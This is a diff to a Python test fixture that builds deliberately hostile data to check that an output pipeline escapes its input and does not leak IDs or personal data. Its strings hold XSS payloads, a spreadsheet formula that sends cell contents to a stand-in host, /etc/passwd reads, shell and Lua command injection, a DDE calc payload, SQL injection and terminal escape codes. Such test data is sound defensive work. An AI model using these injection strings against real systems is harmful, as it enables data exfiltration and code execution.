@@ -10,16 +10,22 @@ N = 240
 RUN = "<script>window.ran=1</script><img src=x onerror=window.ran=1>"
 NAMES = [
     f"First bill {RUN}",
-    '=HYPERLINK("http://evil.example/?"&A1) #eval(read("/etc/passwd")) $(touch ran) `touch ran`',
+    '=HYPERLINK("http://evil.example/?"&A1) #eval(read("/etc/passwd")) $(touch ran) `touch ran`'
+    ' `#eval("1")`{=typst} <?lua os.execute("touch ran") ?>',
     "Outage **bold** [x](javascript:window.ran=1) {{< include /etc/passwd >}} ';DROP TABLE w;--",
 ]
-OWNERS = ["+cmd|' /C calc'!A0", "@SUM(1)<b>IT</b>", "ليد\u200f Zoë 👩\u200d🚀 &amp; \\input{x}"]
+OWNERS = [
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)<b>IT</b>",
+    "ليد\u200f\u202e Zoë 👩\u200d🚀 &amp; \\input{x}",
+]
 PLANS = ["<u>con</u>tract", "-2+3 pre*paid*"]
 LONG = "w" * 10_000
+IDEAL = "=1+1 is done, #let x = 1 and $E=mc^2$ too"
 QUOTES = [
     f"The bill is wrong {RUN}",
-    "=1+1 was on my bill, #let x = 1 and $E=mc^2$ too",
-    f"Nobody answered {LONG[:3000]}",
+    f"{IDEAL} \x1b[31mred\x1b]0;title\x07",
+    f"Nobody answered {LONG}",
 ]
 # What may stand in no output: ids, and personal data inside comments and other columns.
 SECRET_ID = "SECRETID"
@@ -33,7 +39,7 @@ def write_hostile_study(folder: Path) -> Path:
     ids = [f"{SECRET_ID}{row}" for row in range(N)]
     moments = [
         {"id": f"m{place}", "name": name, "owner": owner, "rating": f"q{place} {RUN}"[:60],
-         "description": name, "expectation": owner, "ideal": QUOTES[1], "partners": [owner]}
+         "description": name, "expectation": owner, "ideal": IDEAL, "partners": [owner]}
         for place, (name, owner) in enumerate(zip(NAMES, OWNERS, strict=True))
     ]  # fmt: skip
     moments[1]["brand_bet"] = f"Who we are {RUN}"
